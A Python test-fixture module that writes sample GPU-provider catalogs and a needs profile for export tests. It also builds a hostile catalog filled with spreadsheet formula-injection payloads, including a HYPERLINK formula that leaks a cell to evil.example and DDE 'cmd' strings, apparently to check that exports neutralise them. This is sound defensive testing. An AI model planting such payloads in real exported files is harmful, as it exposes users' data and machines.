"""Small provider catalogs and a needs profile for the export tests, written as files."""

from __future__ import annotations

from pathlib import Path

from tests.conftest import REPO_ROOT

EXAMPLE_NEEDS = REPO_ROOT / "catalogs" / "needs" / "example-70b-full.toml"

RAKSMART = """\
format_version = 1
[provider]
id = "raksmart"
name = "RakSmart"
source = "test fixture"
as_of = "2026-11"

[[regions]]
id = "los-angeles"
line_types = ["cn2-gia"]
source = "test fixture"
as_of = "2026-11"

[[offerings]]
id = "h100-8x"
name = "8 × H100 SXM"
gpu = "H100 SXM"
gpus_per_node = 8
max_nodes = 8
regions = ["los-angeles"]
currency = "USD"
prices = [{ gpu_hour = 2.10 }]
source = "test fixture"
as_of = "2026-11"
[offerings.intra_node]
kind = "nvlink"
bandwidth_gbytes_s = 900
[offerings.inter_node]
fabric = "infiniband"
bandwidth_gbit_s = 3200
rdma = true
"""

LAMBDA = """\
format_version = 1
[provider]
id = "lambda"
name = "Lambda"
source = "test fixture"
as_of = "2026-11"

[[regions]]
id = "us-west-1"
line_types = ["bgp"]
source = "test fixture"
as_of = "2026-11"

[[offerings]]
id = "gpu-8x-h100"
gpu = "H100 SXM"
gpus_per_node = 8
max_nodes = 4
regions = ["us-west-1"]
currency = "USD"
prices = [{ node_hour = 23.92 }]
source = "test fixture"
as_of = "2026-11"
[offerings.intra_node]
kind = "nvlink"
"""

# Hostile text in every free-text field a catalog has: names, GPU label, notes, sources.
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cheapest H100s")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)


def hostile_catalog() -> str:
    h = HOSTILE_TEXTS
    return f"""\
format_version = 1
[provider]
id = "evilcorp"
name = {_toml(h[0])}
source = {_toml(h[1])}
as_of = "2026-11"

[[regions]]
id = "los-angeles"
name = {_toml(h[2])}
line_types = ["cn2-gia"]
source = {_toml(h[3])}
as_of = "2026-11"

[[offerings]]
id = "h100-evil"
name = {_toml(h[4])}
gpu = "H100 SXM"
gpus_per_node = 8
regions = ["los-angeles"]
currency = "USD"
prices = [{{ gpu_hour = 1.00, note = {_toml(h[5])} }}]
source = {_toml(h[0])}
as_of = "2026-11"
notes = {_toml(h[3])}
"""


def _toml(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    return f'"{escaped}"'


def write_catalogs(folder: Path, *, hostile: bool = False) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "raksmart.toml").write_text(RAKSMART, encoding="utf-8")
    (folder / "lambda.toml").write_text(LAMBDA, encoding="utf-8")
    if hostile:
        (folder / "evilcorp.toml").write_text(hostile_catalog(), encoding="utf-8")
    return folder


def write_needs(folder: Path, vantage: str | None = None) -> Path:
    """The bundled 70B example profile, its vantage set to `vantage` (None: any vantage point)."""
    lines = [
        line
        for line in EXAMPLE_NEEDS.read_text(encoding="utf-8").splitlines()
        if not line.strip().startswith("vantage")
    ]
    text = "\n".join(lines) + "\n"
    if vantage is not None:
        text = text.replace("[location]\n", f'[location]\nvantage = "{vantage}"\n')
    path = folder / "needs.toml"
    path.write_text(text, encoding="utf-8")
    return path
